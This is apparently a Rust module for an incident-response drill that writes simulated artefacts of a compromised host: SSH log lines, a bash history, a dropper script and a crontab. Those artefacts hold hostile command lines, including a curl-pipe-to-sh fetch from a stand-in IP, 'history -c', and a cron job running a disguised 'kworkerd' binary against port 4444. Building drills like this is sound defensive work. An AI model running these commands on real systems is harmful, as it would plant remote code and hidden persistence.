//! A small host of the drill: files that its playbook acquires as it would from a real one. Written into the incident's own folder.

use chrono::{DateTime, Duration, Utc};

use crate::port::Store;

use super::stage::DrillError;

/// Folder of these files inside the incident.
pub const HOST_FILES: &str = "state/drill-host";

/// Writes the files.
pub(super) fn write(store: &mut dyn Store, now: DateTime<Utc>) -> Result<(), DrillError> {
    for (path, text) in files(now) {
        let path = format!("{HOST_FILES}/{path}");
        store
            .replace(&path, text.as_bytes())
            .map_err(|e| DrillError::write(&path, &e))?;
    }
    Ok(())
}

fn files(now: DateTime<Utc>) -> [(&'static str, String); 4] {
    let at = |minutes: i64| (now - Duration::minutes(minutes)).format("%Y-%m-%dT%H:%M:%SZ");
    [
        (
            "var/log/auth.log",
            format!(
                "{} bastion sshd[811]: Accepted publickey for deploy from 203.0.113.7 port 51022 ssh2\n\
                 {} bastion sshd[902]: Failed password for root from 198.51.100.10 port 40112 ssh2\n\
                 {} bastion sshd[902]: Failed password for root from 198.51.100.10 port 40112 ssh2\n\
                 {} bastion sshd[911]: Accepted publickey for deploy from 198.51.100.10 port 40120 ssh2\n",
                at(180),
                at(52),
                at(52),
                at(50)
            ),
        ),
        (
            "home/deploy/.bash_history",
            "kubectl -n shop get pods\ncurl -fsS http://198.51.100.10/x.sh|sh\nhistory -c\n".to_owned(),
        ),
        (
            "tmp/.cache/x.sh",
            "#!/bin/sh\n# DRILL: harmless, nothing here is run.\nmkdir -p /tmp/.cache\necho curl -fsS -o /tmp/.cache/kworkerd http://198.51.100.10/kworkerd\n"
                .to_owned(),
        ),
        (
            "etc/crontab",
            "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n*/5 * * * * deploy /tmp/.cache/kworkerd -o 198.51.100.10:4444 -B\n"
                .to_owned(),
        ),
    ]
}
